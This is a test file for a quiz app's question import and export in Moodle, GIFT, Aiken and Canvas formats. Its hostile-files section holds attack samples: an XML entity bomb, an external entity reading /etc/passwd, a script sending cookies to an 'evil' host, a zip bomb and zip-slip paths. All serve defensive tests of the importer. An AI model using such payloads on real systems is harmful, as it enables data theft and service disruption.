@@ -1,0 +1,832 @@
+"""Question files in and out (quizzes.interchange): real files written by Moodle, hostile files, the per-question
+report, dry run and "import what is valid", the API, the management command, export and round trips."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.urls import reverse
+
+from accounts.models import AuditLog
+from quizzes import services
+from quizzes.interchange import InterchangeError, read_items
+from quizzes.interchange.common import open_package
+from quizzes.models import Question, QuestionType
+from tests.factories import QuestionFactory, QuizFactory, QuizQuestionFactory
+
+FIXTURES = Path(__file__).parent / "fixtures" / "interchange"
+MOODLE = FIXTURES / "moodle"
+URL = "/api/v1/questions"
+
+
+def fixture(name: str) -> bytes:
+    return (MOODLE / name).read_bytes()
+
+
+def run(teacher, data: bytes, name: str, **kwargs) -> dict:
+    return services.question_file_import(by=teacher.user, data=data, name=name, **kwargs)
+
+
+def by_status(result: dict) -> dict[str, list[int]]:
+    out: dict[str, list[int]] = {}
+    for q in result["questions"]:
+        out.setdefault(q["status"], []).append(q["number"])
+    return out
+
+
+def reasons(result: dict) -> dict[int, str]:
+    return {q["number"]: q["reason"] for q in result["questions"] if q["status"] == "skipped"}
+
+
+def changes(result: dict, number: int) -> list[str]:
+    return next(q["changes"] for q in result["questions"] if q["number"] == number)
+
+
+# --- real files written by Moodle ----------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_moodle_nested_categories_become_topics(teacher):
+    result = run(teacher, fixture("nested_categories_with_questions.xml"), "nested.xml")
+    assert result["format"] == "moodle_xml"
+    assert by_status(result) == {"imported_with_changes": [1, 2, 3, 4, 5]}
+    # Moodle's question names are not part of the text: the report says so, question by question.
+    assert changes(result, 1) == ["title “Iota Question” not kept (questions have no title)"]
+    assert result["imported"] == 5
+    rows = {q.text: (q.type, q.topic, q.correct_answer) for q in Question.objects.filter(created_by=teacher)}
+    assert rows == {
+        "Testing Iota Question": (QuestionType.TRUE_FALSE, "Iota", 0),
+        "Testing Kappa Essay Question": (QuestionType.DESCRIPTIVE, "Iota/Kappa", None),
+        "Testing Kappa Question": (QuestionType.TRUE_FALSE, "Iota/Kappa", 0),
+        "Testing Lambda Question": (QuestionType.TRUE_FALSE, "Iota/Kappa/Lambda", 0),
+        "Testing Mu Question": (QuestionType.TRUE_FALSE, "Iota/Mu", 0),
+    }
+
+
+@pytest.mark.django_db
+def test_moodle_multiple_response_is_skipped_until_the_bank_has_it(teacher):
+    result = run(teacher, fixture("error_invalid_grades.xml"), "grades.xml", import_valid=True)
+    assert reasons(result) == {1: "multiple response not supported"}
+    assert result["imported"] == 0 and not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_moodle_19_images_and_cloze(teacher):
+    result = run(teacher, fixture("sample_questions_with_old_image_tag.xml"), "images.xml", import_valid=True)
+    assert reasons(result) == {1: "cloze (embedded answers) not supported"}
+    assert changes(result, 2) == [
+        "image(s) “moodle.png” not imported (the bank has no question images yet)",
+        "title “mcq with image” not kept (questions have no title)",
+    ]
+    question = Question.objects.get()
+    assert question.options == ["wrong answer", "another wrong answer", "right answer"]
+    assert question.correct_answer == 2
+    assert question.topic == "Default for Test images in backup"
+    assert question.text == (
+        'This is a multichoice question with an image in the old "image" field that was used in Moodle 1.9'
+    )
+
+
+PNG = (MOODLE / "sample_questions_with_old_image_tag.xml").read_text().split("<image_base64>")[1].split("<")[0].strip()
+# The shape Moodle 2+ exports (as in its fixtures truefalse.xml and multichoice.xml): files referenced from the HTML
+# with @@PLUGINFILE@@ and embedded base64 in <file> elements of the text that uses them.
+PLUGINFILE_XML = f"""<?xml version="1.0" encoding="UTF-8"?>
+<quiz>
+  <question type="multichoice">
+    <name><text>Logo</text></name>
+    <questiontext format="html">
+      <text><![CDATA[<p>Which project uses this logo? <img src="@@PLUGINFILE@@/logo.png" alt="a logo"></p>
+<p><a href="@@PLUGINFILE@@/hello.mp3">Listen</a></p>]]></text>
+      <file name="logo.png" path="/" encoding="base64">{PNG}</file>
+      <file name="hello.mp3" path="/" encoding="base64">SUQzAwAAAAAAEFRDT04=</file>
+    </questiontext>
+    <defaultgrade>2.5</defaultgrade>
+    <single>true</single>
+    <answer fraction="100" format="html"><text><![CDATA[<p>Moodle</p>]]></text>
+      <feedback format="html"><text>Yes.</text></feedback></answer>
+    <answer fraction="0" format="html"><text><![CDATA[<p>Canvas</p>]]></text>
+      <feedback format="html"><text></text></feedback></answer>
+  </question>
+</quiz>""".encode()
+
+
+@pytest.mark.django_db
+def test_moodle_pluginfile_images_are_read_and_reported(teacher):
+    parsed = read_items(PLUGINFILE_XML)
+    (item,) = parsed.items
+    assert [(i.name, i.mime, i.data[:4]) for i in item.images] == [
+        ("logo.png", "image/png", b"\x89PNG"),
+        ("hello.mp3", "audio/mpeg", b"ID3\x03"),
+    ]
+    result = run(teacher, PLUGINFILE_XML, "logo.xml")
+    assert changes(result, 1) == [
+        "HTML formatting removed (<a>, <img>)",
+        "per-answer feedback not kept (the bank has no answer feedback yet)",
+        "image(s) “logo.png” not imported (the bank has no question images yet)",
+        "file(s) “hello.mp3” not imported (the bank holds no sound, video or other files)",
+        "title “Logo” not kept (questions have no title)",
+        "marks 2.5 rounded to 3 (marks are whole numbers)",
+    ]
+    question = Question.objects.get()
+    assert question.text == "Which project uses this logo?\n\nListen" and question.options == ["Moodle", "Canvas"]
+    assert question.marks == 3
+
+
+@pytest.mark.django_db
+def test_moodle_gift_fixture_report(teacher):
+    result = run(teacher, fixture("questions.gift.txt"), "questions.gift.txt", dry_run=True)
+    assert result["format"] == "gift" and result["total_rows"] == 9
+    assert by_status(result) == {"imported_with_changes": [1, 3, 6, 7, 8], "skipped": [2, 4, 5, 9]}
+    assert reasons(result)[2] == "matching not supported"
+    assert reasons(result)[4] == "multiple response not supported"
+    assert reasons(result)[5] == "numerical not supported"
+    # The same true/false question twice in one file: the second is a duplicate.
+    assert reasons(result)[9].startswith("the same question is already in the bank")
+    assert "per-answer feedback not kept (the bank has no answer feedback yet)" in changes(result, 3)
+    assert "partial credit dropped for “Cat” (50%): only fully correct answers score" in changes(result, 6)
+    assert "general feedback not kept (the bank has no general feedback yet)" in changes(result, 7)
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_gift_documentation_examples(teacher):
+    """Every example of Moodle's GIFT documentation (examples.txt): which import and what the report says."""
+    result = run(teacher, fixture("gift_examples.txt"), "examples.txt", import_valid=True)
+    assert result["total_rows"] == 43
+    skipped = reasons(result)
+    kinds = {}
+    for number, reason in skipped.items():
+        kinds.setdefault(reason, []).append(number)
+    assert kinds["numerical not supported"] == [5, 16, 17, 18, 19, 20, 38, 43]
+    assert kinds["matching not supported"] == [14, 15, 39]
+    assert kinds["multiple response not supported"] == [30, 31]
+    duplicates = kinds["the same question is already in the bank (or earlier in the file)"]
+    # 22 repeats 8 with a line break in its text: the same question.
+    assert duplicates == [6, 7, 10, 12, 22, 24, 26, 34, 35, 36, 37, 40]
+    assert len(skipped) == 25 and result["imported"] == 18
+    bank = {q.text: q for q in Question.objects.filter(created_by=teacher)}
+    # Missing-word questions keep a blank where the answers were.
+    assert bank["Grant is _____ in Grant's tomb."].options == ["buried", "entombed", "living"]
+    assert bank["Two plus two equals _____."].accepted_answers == ["four", "4"]
+    # Escaped control characters are literal text.
+    assert bank["Which answer equals 5?"].options == ["= 2 + 2", "= 2 + 3", "= 2 + 4"]
+    control = next(q for t, q in bank.items() if t.startswith("Which of the following is NOT"))
+    assert control.options == ["~", "=", "#", "{", "}", "\\"] and control.correct_answer == 5
+    assert bank["The sun rises in the east."].correct_answer == 0
+    jesus = Question.objects.get(text="Jesus Christ was from _____.", type=QuestionType.MCQ)
+    assert jesus.options[jesus.correct_answer] == "Nazareth"
+    assert changes(result, 28) == [
+        "partial credit dropped for “Bethlehem” (25%), “Galilee” (50%): only the correct option scores",
+        "per-answer feedback not kept (the bank has no answer feedback yet)",
+        "title “Jesus' hometown” not kept (questions have no title)",
+    ]
+    assert Question.objects.get(
+        text="Jesus Christ was from _____.", type=QuestionType.SHORT_ANSWER
+    ).accepted_answers == ["Nazareth"]
+
+
+@pytest.mark.django_db
+def test_aiken_with_windows_line_endings_and_bom(teacher):
+    data = b"\xef\xbb\xbf" + fixture("questions.aiken.txt").replace(b"\n", b"\r\n")
+    result = run(teacher, data, "questions.txt")
+    assert result["format"] == "aiken" and by_status(result) == {"imported": [1, 2]}
+    first, second = Question.objects.order_by("text")
+    assert second.text == "The Moodle project was started by:"
+    assert second.options == ["Petr Skoda", "Martin Dougiamas", "Eloy Lafuente", "Tim Hunt"]
+    assert second.correct_answer == 1
+    # Aiken text is plain text: markup in it is kept as the characters the teacher typed.
+    assert first.text == 'Moodle\'s abilities include handling user input that includes <html class="cool"> & images:'
+    assert first.type == QuestionType.MCQ and first.options == ["True", "False"] and first.correct_answer == 0
+
+
+@pytest.mark.django_db
+def test_aiken_broken_questions_are_reported(teacher):
+    data = b"Q1?\nA) a\nB) b\nANSWER: C\n\nQ2?\nA) yes\nB) no\nANSWER: A\n\nQ3 without options\nANSWER: A\n"
+    result = run(teacher, data, "broken.txt", dry_run=True)
+    assert reasons(result) == {
+        1: "ANSWER: C names no option",
+        3: "a question needs at least two options (A) ... B) ...)",
+    }
+    assert result["would_import"] == 1
+
+
+# --- files written by Canvas --------------------------------------------------------------------------------------
+
+CANVAS = FIXTURES / "canvas"
+CANVAS_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
+<manifest identifier="g1" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
+  <metadata><schema>IMS Content</schema><schemaversion>1.1.3</schemaversion></metadata>
+  <organizations/>
+  <resources>
+    <resource identifier="g2" type="imsqti_xmlv1p2">
+      <file href="g2/g2.xml"/>
+      <dependency identifierref="g3"/>
+    </resource>
+    <resource identifier="g3" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
+              href="g2/assessment_meta.xml">
+      <file href="g2/assessment_meta.xml"/>
+    </resource>
+  </resources>
+</manifest>"""
+
+
+@pytest.mark.django_db
+def test_canvas_qti_12_package(teacher):
+    """Canvas's export layout: imsmanifest.xml naming the QTI 1.2 file, next to Canvas's own assessment_meta.xml
+    (not QTI, and not read). The question file is Canvas's own fixture."""
+    package = _zip(
+        {
+            "imsmanifest.xml": CANVAS_MANIFEST,
+            "g2/g2.xml": (CANVAS / "multiple_choice_html.xml").read_bytes(),
+            "g2/assessment_meta.xml": b"<quiz><title>not questions</title></quiz>",
+        }
+    )
+    result = run(teacher, package, "canvas-export.zip")
+    assert result["format"] == "qti12" and by_status(result) == {"imported_with_changes": [1]}
+    assert result["format_label"] == "Canvas QTI 1.2"
+    assert changes(result, 1) == [
+        "HTML formatting removed (<strong>)",
+        "general feedback not kept (the bank has no general feedback yet)",
+        "title “test fun” not kept (questions have no title)",
+    ]
+    question = Question.objects.get()
+    assert (question.text, question.options, question.correct_answer, question.marks, question.topic) == (
+        "html for fun", ["html answer 1", "html answer 2"], 0, 10, "Test Bank")  # fmt: skip
+
+
+@pytest.mark.django_db
+def test_qti_21_items_converted_from_canvas(teacher):
+    """QTI 2.1 items written by Canvas's QTI converter: scored in responseProcessing, no correctResponse."""
+    got = {}
+    for name in ("true_false.xml", "short_answer.xml", "essay.xml"):
+        result = run(teacher, (CANVAS / name).read_bytes(), name)
+        assert result["format"] == "qti21" and result["imported"] == 1, result["questions"]
+        got[name] = result["questions"][0]
+    assert Question.objects.get(type=QuestionType.TRUE_FALSE).correct_answer == 1
+    short = Question.objects.get(type=QuestionType.SHORT_ANSWER)
+    assert short.accepted_answers == ["short answer", "Something else"] and short.marks == 19
+    essay = Question.objects.get(type=QuestionType.DESCRIPTIVE)
+    assert essay.text == "Why do we have so many types now‽ <-- unicode character, you're screwed!" and essay.marks == 6
+    assert got["essay.xml"]["changes"] == [
+        "general feedback not kept (the bank has no general feedback yet)",
+        "title “essay” not kept (questions have no title)",
+    ]
+
+
+# --- dry run, refusal, import what is valid ------------------------------------------------------------------------
+
+MIXED_GIFT = b"""
+::one::Capital of France?{=Paris ~London ~Rome}
+
+::two::Pi to two decimals?{#3.14:0.01}
+
+::three::The sun is a star.{T}
+"""
+
+
+@pytest.mark.django_db
+def test_real_run_with_a_skipped_question_writes_nothing_unless_import_valid(teacher):
+    dry = run(teacher, MIXED_GIFT, "mixed.gift", dry_run=True)
+    assert dry["would_import"] == 2 and dry["imported"] == 0 and not Question.objects.exists()
+    refused = run(teacher, MIXED_GIFT, "mixed.gift")
+    assert refused["refused"] and refused["imported"] == 0 and "Nothing was imported" in refused["message"]
+    assert not Question.objects.exists()
+    done = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
+    assert done["imported"] == 2 and Question.objects.count() == 2
+    assert AuditLog.objects.filter(action="question.bulk_import").count() == 1
+    # Importing the same file again: duplicates are skipped but do not block.
+    again = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
+    assert again["imported"] == 0 and Question.objects.count() == 2
+
+
+# --- hostile files -------------------------------------------------------------------------------------------------
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
+<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>"""
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>"""
+SCRIPTED = b"""<?xml version="1.0" encoding="UTF-8"?><quiz><question type="essay"><name><text>x</text></name>
+<questiontext format="html"><text><![CDATA[<p onclick="steal()">Explain <b>osmosis</b>.
+<script>fetch('//evil/'+document.cookie)</script></p><img src=x onerror=alert(1)>]]></text></questiontext>
+</question></quiz>"""
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
+def test_xml_with_a_dtd_is_refused_unread(teacher, data):
+    with pytest.raises(InterchangeError, match="declares a DTD or entities"):
+        run(teacher, data, "evil.xml")
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_scripts_in_html_question_text_are_stripped(teacher):
+    result = run(teacher, SCRIPTED, "scripted.xml")
+    question = Question.objects.get()
+    assert question.text == "Explain osmosis."
+    assert "scripts or event handlers removed from the text" in changes(result, 1)
+    assert "HTML formatting removed (<b>, <img>, <script>)" in changes(result, 1)
+
+
+def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def test_zip_bomb_is_refused_from_its_directory():
+    bomb = _zip({"imsmanifest.xml": b"<manifest/>", "items/q.xml": b"\0" * (200 * 1024 * 1024)})
+    assert len(bomb) < 1024 * 1024
+    with pytest.raises(InterchangeError, match="unpacks to more than 100 times its size"):
+        open_package(bomb)
+
+
+@pytest.mark.parametrize("name", ["../../etc/cron.d/evil.xml", "/etc/passwd", "items\\..\\..\\x.xml", "C:/x.xml"])
+def test_zip_slip_is_refused(name):
+    with pytest.raises(InterchangeError, match="leaves the package"):
+        open_package(_zip({"imsmanifest.xml": b"<manifest/>", name: b"<x/>"}))
+
+
+def test_too_many_members_and_too_large_packages_are_refused():
+    with pytest.raises(InterchangeError, match="at most 2000"):
+        open_package(_zip({f"f{i}.xml": b"" for i in range(2001)}, level=1))
+
+
+@pytest.mark.django_db
+def test_a_50_mb_file_is_refused_by_the_service_and_the_api(teacher, api_for):
+    big = b"Q?{T}\n\n" * (50 * 1024 * 1024 // 7)
+    with pytest.raises(InterchangeError, match="larger than 5 MB"):
+        run(teacher, big, "big.gift")
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": SimpleUploadedFile("big.gift", big)}, format="multipart")
+    assert r.status_code == 413 and "larger than 5 MB" in r.json()["detail"]
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (b"<quiz><question type='essay'>", "not well-formed XML"),
+        (b"<html><body>hi</body></html>", "not Moodle XML"),
+        (b"PK\x03\x04garbage", "not a readable zip"),
+        (b"\x00\x01binary", "not a text file"),
+    ],
+)
+def test_unreadable_files_get_a_clear_error(teacher, data, message):
+    with pytest.raises(InterchangeError, match=message):
+        run(teacher, data, "x.gift" if data.startswith(b"\x00") else "x.xml")
+
+
+# --- API and management command ------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_api_bulk_import_takes_moodle_xml_with_the_report(api_for, teacher):
+    upload = SimpleUploadedFile("nested.xml", fixture("nested_categories_with_questions.xml"))
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload, "dry_run": "true"}, format="multipart")
+    body = r.json()
+    assert r.status_code == 200 and body["format"] == "moodle_xml" and body["would_import"] == 5
+    assert [q["status"] for q in body["questions"]] == ["imported_with_changes"] * 5
+    assert not Question.objects.exists()
+    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload}, format="multipart")
+    assert r.status_code == 422 and "Nothing was imported" in r.json()["detail"]
+    assert r.json()["questions"][1]["reason"] == "numerical not supported"
+    assert not Question.objects.exists()
+    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
+    r = api_for(teacher).post(
+        f"{URL}/bulk-import", {"file": upload, "import_valid": "true", "format": "gift"}, format="multipart"
+    )
+    assert r.status_code == 200 and r.json()["imported"] == 2
+
+
+@pytest.mark.django_db
+def test_api_bulk_import_outsiders(api_for, api, student, admin, teacher):
+    def upload():
+        return SimpleUploadedFile("q.gift", MIXED_GIFT)
+
+    assert api_for(student).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 403
+    assert api.post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 401
+    r = api_for(admin).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart")
+    assert r.status_code == 400 and "created_by" in r.json()["detail"]
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_management_command(teacher, tmp_path, capsys):
+    path = tmp_path / "q.gift"
+    path.write_bytes(MIXED_GIFT)
+    call_command("import_questions", str(path), "--owner", teacher.user.email, "--dry-run")
+    out = capsys.readouterr().out
+    assert "2  skipped  line 4 “two”: numerical not supported" in out and "Dry run" in out
+    assert not Question.objects.exists()
+    call_command("import_questions", str(path), "--owner", teacher.user.email, "--import-valid")
+    assert Question.objects.count() == 2
+
+
+# --- export and round trips ----------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def bank(teacher):
+    return [
+        QuestionFactory(
+            created_by=teacher,
+            text="Capital of France?",
+            topic="Geography",
+            marks=2,
+            options=["London", "Paris", "Rome"],
+            correct_answer=1,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.TRUE_FALSE,
+            text="The sun is a star.",
+            topic="Science",
+            options=["True", "False"],
+            correct_answer=0,
+            marks=1,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.SHORT_ANSWER,
+            text="Symbol of gold?",
+            topic="Chemistry",
+            options=None,
+            correct_answer=None,
+            accepted_answers=["Au", "gold"],
+            case_sensitive=True,
+            marks=3,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.DESCRIPTIVE,
+            text="Explain erosion.",
+            topic="Geography",
+            options=None,
+            correct_answer=None,
+            sample_answer="Water moves soil.",
+            marking_rubric="2 marks per idea",
+            marks=5,
+        ),  # fmt: skip
+    ]
+
+
+# Every character GIFT, XML and HTML treat specially, and two paragraphs.
+TRICKY = "Is 2 < 3 & is <b> a tag?\n\nBraces {x}, ~tilde, =equals, #hash, :colon:: and a \\backslash."
+
+
+@pytest.fixture
+def tricky(teacher):
+    return QuestionFactory(
+        created_by=teacher,
+        text=TRICKY,
+        topic="Tricky/Characters",
+        marks=1,
+        options=["a < b", "{x} ~ y = z # w", "back\\slash: yes", "[html] not a format"],
+        correct_answer=2,
+    )
+
+
+KEY_FIELDS = ("text", "type", "options", "correct_answer", "accepted_answers")
+
+
+def _key(q: Question, fields=KEY_FIELDS) -> tuple:
+    return tuple(getattr(q, f) for f in fields)
+
+
+# What each format carries besides the key, for the round trip.
+ROUND_TRIP = {
+    "moodle_xml": ("topic", "marks", "case_sensitive", "sample_answer", "marking_rubric"),
+    "gift": ("topic",),
+    "qti21": ("topic", "marks", "case_sensitive"),
+    "qti12": ("marks",),
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", list(ROUND_TRIP))
+def test_round_trip(fmt, teacher, other_teacher, bank, tricky):
+    bank = [*bank, tricky]
+    export = services.question_export(by=teacher.user, questions=bank, fmt=fmt)
+    assert export.summary["exported"] == 5
+    result = services.question_file_import(by=other_teacher.user, data=export.data, name=export.filename)
+    assert result["imported"] == 5, result["questions"]
+    fields = KEY_FIELDS + ROUND_TRIP[fmt]
+    if fmt == "moodle_xml":
+        fields = tuple(f for f in fields if f != "sample_answer") + ("sample_answer",)
+    back = sorted((_key(q, fields) for q in Question.objects.filter(created_by=other_teacher)), key=str)
+    original = sorted((_key(q, fields) for q in bank), key=str)
+    assert back == original
+
+
+@pytest.mark.django_db
+def test_export_report_says_what_each_format_loses(teacher, bank):
+    gift = services.question_export(by=teacher.user, questions=bank, fmt="gift")
+    report = {r["text"]: r for r in gift.report}
+    assert report["Capital of France?"]["changes"] == ["marks (2) not kept: the format has none, importers use 1"]
+    assert report["Explain erosion."]["changes"] == [
+        "marks (5) not kept: the format has none, importers use 1",
+        "sample answer not kept",
+        "marking rubric not kept",
+    ]
+    assert report["The sun is a star."]["status_label"] == "exported as is"
+    aiken = services.question_export(by=teacher.user, questions=bank, fmt="aiken")
+    assert [r["status"] for r in aiken.report] == ["imported_with_changes", "imported_with_changes", "skipped",
+                                                   "skipped"]  # fmt: skip
+    assert aiken.report[2]["reason"] == "short answer: Aiken holds single-answer multiple choice only"
+
+
+@pytest.mark.django_db
+def test_export_api(api_for, api, teacher, other_teacher, student, bank):
+    r = api_for(teacher).get(f"{URL}/export", {"format": "moodle_xml"})
+    assert r.status_code == 200 and r["Content-Disposition"] == 'attachment; filename="questions.xml"'
+    assert r["X-Export-Report"] == "exported=4; changed=0; skipped=0"
+    assert read_items(r.content).format == "moodle_xml" and len(read_items(r.content).items) == 4
+    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "topic": "Geography", "report": "true"})
+    assert r.status_code == 200 and [q["text"] for q in r.json()["questions"]] == [
+        "Capital of France?", "Explain erosion."]  # fmt: skip
+    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[2].pk), "report": "1"})
+    assert [q["text"] for q in r.json()["questions"]] == ["Symbol of gold?"]
+    quiz = QuizFactory(created_by=teacher)
+    QuizQuestionFactory(quiz=quiz, question=bank[3], order_index=0)
+    QuizQuestionFactory(quiz=quiz, question=bank[0], order_index=1)
+    r = api_for(teacher).get(f"{URL}/export", {"format": "qti21", "quiz": str(quiz.pk), "report": "1"})
+    assert [q["text"] for q in r.json()["questions"]] == ["Explain erosion.", "Capital of France?"]
+    assert api_for(teacher).get(f"{URL}/export", {"format": "pdf"}).status_code == 400
+    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "type": "poem"})
+    assert r.status_code == 400 and "poem" in r.json()["detail"]  # a bad filter is an error, not "the whole bank"
+    # Outsiders: another teacher's quiz is a 404, their own empty bank a 400; students 403, anonymous 401.
+    assert api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "quiz": str(quiz.pk)}).status_code == 404
+    r = api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[0].pk)})
+    assert r.status_code == 400 and "no questions" in r.json()["detail"]
+    assert api_for(student).get(f"{URL}/export", {"format": "gift"}).status_code == 403
+    assert api.get(f"{URL}/export", {"format": "gift"}).status_code == 401
+
+
+# --- pages ---------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def web(client):
+    def login(persona):
+        client.force_login(getattr(persona, "user", persona))
+        return client
+
+    return login
+
+
+@pytest.mark.django_db
+def test_import_page_report_refusal_and_import_what_is_valid(web, teacher):
+    client = web(teacher)
+    url = reverse("quizzes:question_import")
+
+    def post(**extra):
+        return client.post(url, {"file": SimpleUploadedFile("mixed.gift", MIXED_GIFT), **extra}).content.decode()
+
+    page = post(dry_run="on")
+    assert "Dry run — GIFT" in page and "2 question(s) would be imported" in page
+    assert "numerical not supported" in page and "imported with changes" in page
+    assert "title “one” not kept (questions have no title)" in page
+    page = post()
+    assert "Nothing was imported: 1 question(s) cannot be imported." in page
+    assert "not imported (nothing was written)" in page and not Question.objects.exists()
+    r = client.post(url, {"file": SimpleUploadedFile("mixed.gift", MIXED_GIFT), "import_valid": "on"})
+    assert Question.objects.count() == 2 and "2 question(s) imported (2 with changes), 1 skipped." in r.content.decode()
+    page = client.post(url, {"file": SimpleUploadedFile("evil.xml", BILLION_LAUGHS)}).content.decode()
+    assert "declares a DTD or entities" in page
+
+
+@pytest.mark.django_db
+def test_export_page_report_and_download(web, teacher, other_teacher, bank):
+    client = web(teacher)
+    url = reverse("quizzes:question_export")
+    page = client.get(url, {"format": "gift", "topic": "Geography"}).content.decode()
+    assert "2 question(s) exported, 2 with changes" in page and "Capital of France?" in page
+    assert "Symbol of gold?" not in page and "marks (5) not kept" in page
+    r = client.get(url, {"format": "gift", "topic": "Geography", "download": "1"})
+    assert r["Content-Disposition"] == 'attachment; filename="questions.gift.txt"'
+    assert b"Capital of France?{" in r.content and b"Symbol of gold" not in r.content
+    # Another teacher exports their own (empty) bank, never this one.
+    page = web(other_teacher).get(url, {"format": "gift"}).content.decode()
+    assert "There are no questions to export." in page
+
+
+@pytest.mark.django_db
+def test_quiz_page_exports_the_quiz_questions_in_order(web, teacher, other_teacher, bank):
+    quiz = QuizFactory(created_by=teacher)
+    QuizQuestionFactory(quiz=quiz, question=bank[3], order_index=0)
+    QuizQuestionFactory(quiz=quiz, question=bank[0], order_index=1)
+    client = web(teacher)
+    detail = client.get(reverse("quizzes:detail", args=[quiz.pk])).content.decode()
+    link = f"{reverse('quizzes:question_export')}?quiz={quiz.pk}"
+    assert link in detail
+    page = client.get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk)}).content.decode()
+    assert "This field is required" not in page and f'name="quiz" value="{quiz.pk}"' in page
+    r = client.get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk), "format": "moodle_xml", "download": "1"})
+    names = [i.text for i in read_items(r.content).items]
+    assert names == ["Explain erosion.", "Capital of France?"]
+    # Another teacher's quiz: 404, nothing exported.
+    r = web(other_teacher).get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk), "format": "gift"})
+    assert r.status_code == 404
+
+
+@pytest.mark.django_db
+def test_import_and_export_pages_outsiders(client, web, student):
+    for url in (reverse("quizzes:question_export"), reverse("quizzes:question_import")):
+        r = client.get(url)
+        assert r.status_code == 302 and "/accounts/login/" in r["Location"]
+    client = web(student)
+    assert client.get(reverse("quizzes:question_export"), {"format": "gift"}).status_code == 403
+
+
+# --- large files: a Celery worker ------------------------------------------------------------------------------------
+
+
+def _many_questions(n: int) -> bytes:
+    return "\n\n".join(f"Question {i}: is {i} even?{{{'T' if i % 2 == 0 else 'F'}}}" for i in range(n)).encode()
+
+
+@pytest.mark.django_db
+def test_a_large_file_is_imported_by_a_job(api_for, teacher, other_teacher, student, monkeypatch,
+                                           django_capture_on_commit_callbacks):  # fmt: skip
+    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
+    with django_capture_on_commit_callbacks(execute=True):  # Celery runs eagerly here; a real worker below
+        r = api_for(teacher).post(
+            f"{URL}/bulk-import", {"file": SimpleUploadedFile("many.gift", _many_questions(25))}, format="multipart"
+        )
+    assert r.status_code == 202 and r.json()["queued"] and r.json()["total_rows"] == 25
+    status_url = r.json()["status_url"]
+    job = api_for(teacher).get(status_url).json()
+    assert job["status"] == "done" and job["progress"] == {"processed": 25, "total": 25}
+    assert job["result"]["imported"] == 25 and Question.objects.filter(created_by=teacher).count() == 25
+    # The job is its uploader's: another teacher gets 404, a student 403.
+    assert api_for(other_teacher).get(status_url).status_code == 404
+    assert api_for(student).get(status_url).status_code == 403
+    # The page follows the same job, then shows its report.
+    from quizzes.models import QuestionImportJob
+
+    jobs = QuestionImportJob.objects.all()
+    assert jobs.count() == 1 and bytes(jobs.get().content) == b""  # the file is not kept after the import
+
+
+@pytest.mark.django_db
+def test_the_import_page_sends_a_large_file_to_a_job(web, teacher, monkeypatch, django_capture_on_commit_callbacks):
+    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
+    client = web(teacher)
+    with django_capture_on_commit_callbacks(execute=True):
+        r = client.post(
+            reverse("quizzes:question_import"), {"file": SimpleUploadedFile("many.gift", _many_questions(12))}
+        )
+    assert r.status_code == 302 and "/quizzes/questions/import/" in r["Location"]
+    page = client.get(r["Location"]).content.decode()
+    assert "12 question(s) imported (0 with changes), 0 skipped." in page and "Question 11: is 11 even?" in page
+
+
+@pytest.mark.worker
